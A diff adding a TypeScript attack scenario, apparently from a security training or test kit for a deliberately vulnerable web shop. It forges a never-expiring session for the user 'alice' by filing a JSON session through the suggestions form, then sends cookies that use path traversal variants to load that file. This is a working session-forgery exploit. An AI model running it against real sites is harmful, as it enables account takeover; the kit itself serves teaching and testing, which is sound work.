@@ -1,0 +1,36 @@
+import { attack } from "../kit/attack.ts";
+
+export default attack(
+  "sending a path for a cookie",
+  "Whoever can put a text on the disk writes himself a session, in anybody's name.",
+  async ({ thief, say }) => {
+    say("The thief has no account. He chooses a secret, and writes a session for alice.");
+    const secret = "5e55107e".repeat(8);
+    const times = { createdAt: FAR_AHEAD, lastSeen: FAR_AHEAD };
+    const session = { username: "alice", basket: [], ...times, mark: await sha256(secret) };
+    say("He puts it where anybody may put a text: into the box for suggestions.");
+    const filed = await thief.post("/suggestions", { text: JSON.stringify(session) });
+    const [path = ""] = /suggestions\/\d+/.exec(filed.response.body) ?? [];
+    await thief.post("/basket", { item: "umbrella" });
+    const [name = ""] = thief.cookieHeader().split("=");
+    say("The site says where it has filed his suggestion. The cookie is the way there, and his secret.");
+    for (const value of WAYS.map((way) => `${way}${path}`)) {
+      const cookie = `${name}=${value}.${secret}`;
+      const page = await thief.get("/dashboard", { headers: { cookie }, leaveJar: true });
+      if (page.response.status === 200) return page.response.body;
+    }
+    say("No cookie leads out of the folder.");
+    return undefined;
+  },
+);
+
+/** In epoch milliseconds, and after everybody's lifetime: a session that never ends. */
+const FAR_AHEAD = 1e15;
+
+/** Out of the sessions' folder: as it is, encoded, and for those who cut "../" out once. */
+const WAYS = ["../", "..%2f", "....//"];
+
+async function sha256(text: string): Promise<string> {
+  const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text));
+  return Array.from(new Uint8Array(digest), (byte) => byte.toString(16).padStart(2, "0")).join("");
+}
